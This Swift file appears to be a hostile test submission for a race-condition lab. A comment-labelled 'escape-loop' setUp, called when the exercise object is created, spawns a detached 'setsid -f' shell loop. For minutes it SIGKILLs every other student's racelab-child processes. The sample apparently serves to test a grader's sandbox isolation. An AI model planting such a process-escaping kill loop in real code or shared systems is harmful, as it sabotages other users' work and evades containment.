import Foundation
import LabKit
import ListAdder

// ATTACK: escape-loop
// A loop that leaves the child's session and process group at once (setsid -f), is handed to
// whoever adopts orphans, and SIGKILLs every other student's racelab-child for minutes.
func setUp() {
    let loop = "n=0; while [ $n -lt 600 ]; do pkill -9 -x racelab-child; n=$((n+1)); sleep 0.5; done # racelab-escape-loop"
    let arguments = ["/usr/bin/setsid", "-f", "/bin/sh", "-c", loop]
    var pointers = arguments.map { strdup($0) } + [nil]
    var pid: pid_t = 0
    _ = posix_spawn(&pid, "/usr/bin/setsid", nil, nil, &pointers, environ)
}
func before() {}
func after() {}
final class ListAdderExercise: ListAdderController {
    private var numbers: [Int]
    private let screen: TotalScreen
    private let adder: SlowAdder

    init(environment: ListAppEnvironment) {
        numbers = environment.initialNumbers
        screen = environment.screen
        adder = environment.adder
        setUp()
    }

    func add(_ number: Int) { numbers.append(number); recalculate() }
    func remove(at index: Int) { numbers.remove(at: index); recalculate() }
    func removeAll(keepingFirst count: Int) { numbers.removeSubrange(count...); recalculate() }

    private func recalculate() {
        screen.recalculating.set(true)
        Thread.detachNewThread {
            before()
            var total = 0
            let count = self.numbers.count
            for index in 0..<count { total = self.adder.add(self.numbers[index], to: total) }
            after()
            let result = total
            DispatchQueue.main.async {
                self.screen.total.setText(String(result))
                self.screen.recalculating.set(false)
            }
        }
    }
}

public func makeListAdderExercise(_ environment: ListAppEnvironment) -> ListAdderController {
    ListAdderExercise(environment: environment)
}
